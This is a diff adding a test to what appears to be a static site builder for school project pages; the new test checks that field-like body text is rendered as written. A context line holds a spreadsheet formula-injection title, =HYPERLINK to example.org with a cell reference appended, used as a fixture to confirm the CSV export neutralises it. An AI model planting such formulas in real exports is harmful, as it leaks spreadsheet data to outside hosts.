@@ -232,6 +232,25 @@ describe('unusual input is a content problem in the check and the build alike', 
     }
   });
 
+  test('a text that begins like a field ("summary: …", "link: …", "email: …") with a horizontal rule further down is a text, built as written', () => {
+    const fixture = fresh();
+    fixture.replace(SCRATCH_EN, '---\n\nThe 5th grade', '---\n\nsummary: what we did this year.\n\n---\n\nThe 5th grade');
+    fixture.replace(SCRATCH_EL, /\n---\n\n/.exec(fixture.read(SCRATCH_EL))![0], '\n---\n\nlink: https://example.org/scratch\n\n---\n\n');
+    fixture.replace('school.el.md', '---\n\nΤο 14ο', '---\n\nemail: γράψτε μας.\n\n---\n\nΤο 14ο');
+    const check = runCheck(['--content', fixture.contentArg]);
+    assert.equal(check.status, 0, check.stdout + check.stderr);
+    const elsewhere = makeTempDir('etwinning-field-like-text-');
+    try {
+      const site = path.join(elsewhere.dir, 'site');
+      const build = runBuild(['--content', fixture.contentArg, '--output', site]);
+      assert.equal(build.status, 0, build.stderr);
+      const page = readFileSync(path.join(site, 'en', '2015-2016', SCRATCH.split('/')[1]!, 'index.html'), 'utf8');
+      assert.match(page, /<p>summary: what we did this year\.<\/p>\s*<hr>/);
+    } finally {
+      elsewhere.remove();
+    }
+  });
+
   test('a title that starts like a spreadsheet formula is built, and written into archive.csv as text', () => {
     const fixture = fresh();
     fixture.replace(SCRATCH_EN, 'title: "The Scratch Project"', `title: "=HYPERLINK(\\"https://example.org/?\\"&A1, \\"Scratch\\")"`);
